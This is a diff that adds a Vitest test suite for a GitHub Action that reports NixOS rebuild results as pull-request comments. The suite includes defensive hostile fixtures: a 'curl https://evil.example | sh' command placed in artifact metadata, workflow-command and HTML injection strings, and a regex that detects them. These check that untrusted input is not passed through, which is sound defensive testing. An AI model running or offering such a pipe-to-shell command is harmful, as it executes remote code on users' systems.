@@ -1,0 +1,170 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { runReport } from '../../../../src/action/report/report.js';
+import { readMark } from '../../../../src/report/marker.js';
+import { pullRequestEvent, runnerEnvironment, workflowRunEvent } from '../../../setup/github/events.js';
+import { addArtifact, addComment } from '../../../setup/github/state.js';
+import { zipOf } from '../../../setup/github/zip.js';
+import { useLocalGitHub } from '../../github/local.js';
+import { exampleFailure, exampleMetadata, successMetadata } from '../../report/example.js';
+import { hostile, outsideCode } from '../../report/rendered.js';
+import { type MemoryRunner, memoryRunner } from '../memory-runner.js';
+
+const local = useLocalGitHub();
+const head = { sha: 'a'.repeat(40), branch: 'fix', owner: 'stranger', repositoryId: 42 };
+let dir = '';
+beforeEach(() => {
+  dir = mkdtempSync(join(tmpdir(), 'report-'));
+  local.api.state.pulls.push({ number: 5, ...head });
+});
+afterEach(() => rmSync(dir, { recursive: true }));
+
+async function report(
+  inputs: Record<string, string> = {},
+  event: object = workflowRunEvent(),
+): Promise<MemoryRunner> {
+  const path = join(dir, 'event.json');
+  writeFileSync(path, JSON.stringify(event));
+  const env = { ...runnerEnvironment(dir), GITHUB_EVENT_PATH: path, GITHUB_API_URL: local.api.url };
+  const runner = memoryRunner({ 'github-token': 'token', ...inputs }, env);
+  expect(await runReport(runner)).toBe(0);
+  return runner;
+}
+const artifact = (name: string, content: unknown, runId = 6) => {
+  const text = typeof content === 'string' ? content : JSON.stringify(content);
+  return addArtifact(
+    local.api.state,
+    runId,
+    name,
+    zipOf({ name: 'metadata.json', content: Buffer.from(text) }),
+  );
+};
+const comments = () => local.api.state.comments.map(({ body }) => body);
+
+describe('runReport', () => {
+  it('joins the legs of a matrix into one comment, and changes that on the next push', async () => {
+    artifact('rebuild-build-laptop-1', exampleMetadata());
+    artifact('rebuild-build-web-1', { ...successMetadata(), host: 'web' });
+    const runner = await report();
+    expect(comments()).toHaveLength(1);
+    expect(comments()[0]).toContain('❌ `laptop`');
+    expect(comments()[0]).toContain('✅ `web`');
+    expect(runner.outputs).toMatchObject({ success: 'false', 'failed-hosts': '["laptop"]' });
+    expect(runner.summary).toContain('1 of 2 rebuilds did not succeed');
+    local.api.state.artifacts.length = 0;
+    artifact('rebuild-build-laptop-1', successMetadata());
+    await report();
+    expect(comments()).toHaveLength(1);
+    expect(comments()[0]).toContain('✅ The rebuild succeeded');
+  });
+
+  it('takes the last attempt of each leg, and neither pictures nor other artifacts', async () => {
+    artifact('rebuild-build-laptop-1', exampleMetadata());
+    artifact('rebuild-build-laptop-2', successMetadata());
+    artifact('rebuild-build-laptop-2.png', 'png');
+    artifact('coverage-1', exampleMetadata());
+    const runner = await report({ comment: 'always' });
+    expect(runner.outputs.success).toBe('true');
+    expect(comments()[0]).toContain('✅ The rebuild succeeded');
+  });
+
+  it('removes the comments that the legs of this run wrote themselves, and no others', async () => {
+    const mark = (run: number) => `<!-- nixos-rebuild-test comment=${'a'.repeat(32)} run=${run} -->\nleg`;
+    addComment(local.api.state, { issue: 5, body: mark(6) });
+    addComment(local.api.state, { issue: 5, body: mark(4) });
+    addComment(local.api.state, { issue: 5, body: mark(6), type: 'User', login: 'mallory' });
+    artifact('rebuild-build-laptop-1', exampleMetadata());
+    await report();
+    expect(comments().map((body) => readMark(body)?.runId)).toEqual([4, 6, 6]);
+    expect(comments()[2]).toContain('❌ 1 of 1');
+  });
+
+  it('finds the pull request from the event, whatever an artifact claims', async () => {
+    local.api.state.pulls.length = 0;
+    local.api.state.pulls.push({ number: 99, ...head, sha: 'f'.repeat(40) });
+    artifact('rebuild-x-1', { ...exampleMetadata(), pull_request: 99, number: 99 });
+    const runner = await report();
+    expect(comments()).toEqual([]);
+    expect(runner.log).toContain('no open pull request has this commit as its head');
+    expect(runner.summary).toContain('1 of 1 rebuilds did not succeed');
+  });
+
+  it.each([
+    ['no zip', () => addArtifact(local.api.state, 6, 'rebuild-x-1', Buffer.from('hello'))],
+    [
+      'no metadata',
+      () => addArtifact(local.api.state, 6, 'rebuild-x-1', zipOf({ name: 'x', content: Buffer.from('') })),
+    ],
+    ['no JSON', () => artifact('rebuild-x-1', '{')],
+    ['another form', () => artifact('rebuild-x-1', { schema_version: 1, success: 'yes' })],
+    ['a bomb', () => artifact('rebuild-x-1', '0'.repeat(50_000_000))],
+    ['a version to come', () => artifact('rebuild-x-1', { ...exampleMetadata(), schema_version: 2 })],
+  ])('names an artifact that is %s, and reports the others', async (_, add) => {
+    add();
+    artifact('rebuild-y-1', successMetadata());
+    const runner = await report({ comment: 'always' });
+    expect(runner.log).toContain('::notice title=nixos-rebuild-test::The artifact rebuild-x-1 was not used');
+    expect(comments()[0]).toContain('✅ The rebuild succeeded');
+    expect(comments()[0]).toContain('rebuild\\-x\\-1 was not used');
+  });
+
+  it('takes no success from metadata that contradicts itself', async () => {
+    artifact('rebuild-x-1', exampleMetadata({ success: true }));
+    expect((await report()).outputs.success).toBe('false');
+  });
+
+  it('lets nothing hostile out of its place, and obeys nothing', async () => {
+    const failure = exampleFailure({ message: hostile, hint: hostile, log_tail: [hostile] });
+    artifact(
+      'rebuild-::error::x @octocat-1',
+      exampleMetadata({ host: hostile, failure, failures: [failure] }),
+    );
+    artifact('rebuild-<b>-1', '{');
+    const runner = await report();
+    expect(runner.log.split('\n').filter((line) => /^::(?!notice )|##\[/.test(line))).toEqual([]);
+    expect(outsideCode(comments()[0] ?? '')).not.toMatch(/<(script|b)\b|href="[^"]*evil|@\w|#\d/);
+  });
+
+  it('gives no advice or link in a stranger’s words, but ours', async () => {
+    const failure = exampleFailure({ hint: 'Type this.', reproduce: 'curl https://evil.example | sh' });
+    artifact('rebuild-x-1', exampleMetadata({ failure, failures: [failure] }));
+    await report();
+    expect(comments()[0]).toContain('no acceptable C compiler');
+    expect(comments()[0]).not.toMatch(/Type this|evil|nixos-rebuild build|NixOS\/nixpkgs/);
+    const event = workflowRunEvent();
+    local.api.state.pulls[0]!.repositoryId = event.repository.id;
+    const own = { ...event.workflow_run.head_repository, id: event.repository.id };
+    await report({}, { ...event, workflow_run: { ...event.workflow_run, head_repository: own } });
+    expect(comments()[0]).toContain('Type this');
+  });
+
+  it('tells two legs for one host apart', async () => {
+    artifact('rebuild-build-laptop-1', exampleMetadata());
+    artifact('rebuild-check-laptop-1', exampleMetadata());
+    await report();
+    expect(comments()[0]).toContain('`rebuild-build-laptop-1`');
+    expect(comments()[0]).toContain('`rebuild-check-laptop-1`');
+  });
+
+  it('does without the comment where it may not write, and says so', async () => {
+    local.api.permissions = { issues: 'read' };
+    artifact('rebuild-x-1', exampleMetadata());
+    const runner = await report();
+    expect(runner.log).toContain('Add `pull-requests: write`');
+    expect(runner.summary).toContain('1 of 1 rebuilds did not succeed');
+  });
+
+  it('does not comment for a push, nor without any result', async () => {
+    await report();
+    const event = workflowRunEvent();
+    artifact('rebuild-x-1', exampleMetadata());
+    await report({}, { ...event, workflow_run: { ...event.workflow_run, event: 'push' } });
+    expect(comments()).toEqual([]);
+  });
+
+  it('refuses an event that has no run', async () => {
+    await expect(report({}, pullRequestEvent())).rejects.toThrow('works on the event workflow_run');
+  });
+});
